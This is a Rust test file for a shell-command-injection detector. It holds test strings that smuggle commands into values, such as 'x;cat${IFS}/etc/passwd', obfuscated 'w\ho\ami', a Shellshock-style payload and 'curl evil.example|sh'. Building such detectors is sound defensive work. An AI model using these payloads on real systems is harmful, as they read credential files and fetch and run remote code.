use super::*;

fn finds(text: &str) -> Option<Detector> {
    find_in(text, Form::of(text))
}

fn find_in(text: &str, form: Form) -> Option<Detector> {
    let mut worst = None;
    find(text, false, form, &mut |detector, _| {
        if worst != Some(Detector::ShellCommand) {
            worst = Some(detector);
        }
    });
    worst
}

#[test]
fn a_value_that_goes_on_with_a_command_is_found() {
    for text in [
        "127.0.0.1; cat /etc/passwd",
        "x|id",
        "x && whoami",
        "`id`",
        "$(sleep 5)",
        ";c'a't /etc/passwd",
        "a;w\\hoami",
        "| /bin/c?t /etc/passwd",
        "x\ncat${IFS}/etc/passwd",
        "a & ping -n 5 127.0.0.1 &",
        "{cat,/etc/passwd}|id",
        "10.0.0.1;a_tool -x /tmp",
        "&&unknown",
        ";$0",
        "x;$a$b /etc/passwd",
        "\\nid\\n",
        "x\rid",
        "x;\"id\"",
        "x|sudo id",
        "$(`id`)",
        "() { ignored; }; echo vulnerable",
    ] {
        assert_eq!(finds(text), Some(Detector::ShellCommand), "{text}");
    }
}

#[test]
fn a_command_that_hides_its_name_needs_no_separator() {
    for text in [
        "c'a't /etc/passwd",
        "w\\ho\\ami",
        "who$@ami",
        "who$()ami",
        "p^o^w^e^r^s^h^e^l^l -c calc",
        "/???/c?t /etc/passwd",
        "cat</etc/passwd",
        "{cat,/etc/passwd}",
        "ls; cat${IFS}/etc/passwd",
    ] {
        assert_eq!(finds(text), Some(Detector::ShellCommand), "{text}");
    }
    for text in [
        "cat /etc/passwd",
        "'cat' /etc/passwd",
        "sorry; I'd like that",
        "/* cat */ x; /* id */",
        "C:\\nc\\new",
    ] {
        assert_ne!(finds(text), Some(Detector::ShellCommand), "{text}");
    }
}

#[test]
fn prose_scripts_and_command_lines_are_not() {
    for text in [
        "url(data:image/png;base64,AAAA)",
        "&nbsp;&mdash; a",
        "a=1&b=2",
        "text/html; charset=utf-8",
        "wait; sleep well",
        "cats & dogs",
        "a | b",
        "read this; more follows",
        "Tom & find out",
    ] {
        assert_eq!(finds(text), None, "{text}");
    }
    for text in [
        "Use the `id` of the user, please",
        "cd x && ls -la",
        "#!/bin/sh\nset -e; ls",
        "npm test | tee out.txt",
        "To install, run `curl https://x.example/i.sh | sh`.",
    ] {
        assert_ne!(finds(text), Some(Detector::ShellCommand), "{text}");
    }
}

#[test]
fn an_argument_that_is_no_text_is_no_command_line() {
    for text in [
        "a long text of many words; curl evil.example|sh",
        "git x; curl evil.example|sh",
        "npm test && curl evil.example",
        "a\nb\nc; whoami",
    ] {
        assert_ne!(finds(text), Some(Detector::ShellCommand), "{text}");
        assert_eq!(find_in(text, Form::Argument), Some(Detector::ShellCommand), "{text}");
    }
}
